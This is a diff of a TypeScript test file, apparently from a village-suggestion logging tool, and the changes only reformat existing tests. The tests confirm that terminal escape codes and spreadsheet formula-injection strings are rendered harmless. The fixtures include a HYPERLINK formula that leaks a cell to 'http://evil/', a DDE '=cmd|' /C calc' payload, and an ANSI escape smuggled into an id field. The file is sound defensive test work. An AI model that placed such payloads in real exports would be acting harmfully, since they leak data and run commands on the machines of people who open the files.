@@ -49,14 +49,17 @@ describe('a terminal is never handed a control character from a log', () => {
     expect(run.stdout).toContain('  |             ^\n');
   });
 
-  it('explain, summary, suggestions and add echo a suggestion\'s escapes as visible escapes, and JSON keeps them exact', async () => {
+  it("explain, summary, suggestions and add echo a suggestion's escapes as visible escapes, and JSON keeps them exact", async () => {
     const cwd = writeWorkspace(scratch, { [LOG]: suggestionLog([HOSTILE]) });
     const runs = [
       await inProcess(['explain', 'night-talk.suggestions', 'ws', '-m', '2023-04'], cwd),
       await inProcess(['summary', 'ws', '-m', '2023-04'], cwd),
       await inProcess(['suggestions', 'ws', '-m', '2023-04'], cwd),
       await spawned(['suggestions', 'ws', '-m', '2023-04'], cwd),
-      await inProcess(['add', 'ws', '-k', 'suggestion', '--village', '永胜村', '-d', '2023-04-09', '-s', `text=又一条${ESCAPES}`, '-s', 'id=新\u001b[1m01'], cwd),
+      await inProcess(
+        ['add', 'ws', '-k', 'suggestion', '--village', '永胜村', '-d', '2023-04-09', '-s', `text=又一条${ESCAPES}`, '-s', 'id=新\u001b[1m01'],
+        cwd,
+      ),
     ];
     for (const run of runs) {
       expect(run.exitCode, run.stderr).toBe(0);
@@ -83,10 +86,15 @@ describe('a spreadsheet opens no formula from a log', () => {
   const formulas = ['=HYPERLINK("http://evil/"&A1,"click")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '-2+3', '@SUM(A1)'];
 
   it('suggestions --format csv writes each as text, with a leading quote', async () => {
-    const cwd = writeWorkspace(scratch, { [LOG]: suggestionLog(formulas.map((formula, index) => ({ id: formula, text: formula, topic: index === 0 ? formula : '村庄环境整治' }))) });
+    const cwd = writeWorkspace(scratch, {
+      [LOG]: suggestionLog(formulas.map((formula, index) => ({ id: formula, text: formula, topic: index === 0 ? formula : '村庄环境整治' }))),
+    });
     const run = await inProcess(['suggestions', 'ws', '-m', '2023-04', '--format', 'csv'], cwd);
     expect(run.exitCode, run.stderr).toBe(0);
-    const cells = run.stdout.split('\r\n').slice(1, -1).map((line) => line.split(','));
+    const cells = run.stdout
+      .split('\r\n')
+      .slice(1, -1)
+      .map((line) => line.split(','));
     expect(cells).toHaveLength(formulas.length);
     expect(run.stdout).toContain(`"'=HYPERLINK(""http://evil/""&A1,""click"")",永胜村,2023-04-08,"'=HYPERLINK(""http://evil/""&A1,""click"")",`);
     expect(run.stdout).toContain("'+SUM(1+1),永胜村,2023-04-08,村庄环境整治,'+SUM(1+1),未办结,,,22,");
@@ -94,7 +102,11 @@ describe('a spreadsheet opens no formula from a log', () => {
     expect(run.stdout).toContain("'@SUM(A1),永胜村");
     expect(run.stdout).toContain("'=cmd|' /C calc'!A0,永胜村");
     // Every line starts with a cell that cannot be a formula.
-    for (const line of run.stdout.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) expect(line).not.toMatch(/^"?[=+\-@]/);
+    for (const line of run.stdout
+      .replace(/^\uFEFF/, '')
+      .split('\r\n')
+      .filter(Boolean))
+      expect(line).not.toMatch(/^"?[=+\-@]/);
   });
 
   it('the CSV report writes a village named like a formula as text, and its figures as numbers', async () => {
@@ -103,7 +115,10 @@ describe('a spreadsheet opens no formula from a log', () => {
     const run = await inProcess(['report', 'ws', '-m', '2023-04', '-f', 'csv', '-o', '-'], cwd);
     expect(run.exitCode, run.stderr).toBe(0);
     const rows = run.stdout.split('\r\n').filter((line) => line.includes('night-talk.attendance'));
-    expect(rows).toEqual(['测试乡,夜谈联访,night-talk.attendance,参会群众（人次）,个数,55,,,55,', `"'=HYPERLINK(""http://evil/"",""村"")",夜谈联访,night-talk.attendance,参会群众（人次）,个数,55,,,55,`]);
+    expect(rows).toEqual([
+      '测试乡,夜谈联访,night-talk.attendance,参会群众（人次）,个数,55,,,55,',
+      `"'=HYPERLINK(""http://evil/"",""村"")",夜谈联访,night-talk.attendance,参会群众（人次）,个数,55,,,55,`,
+    ]);
   });
 });
 
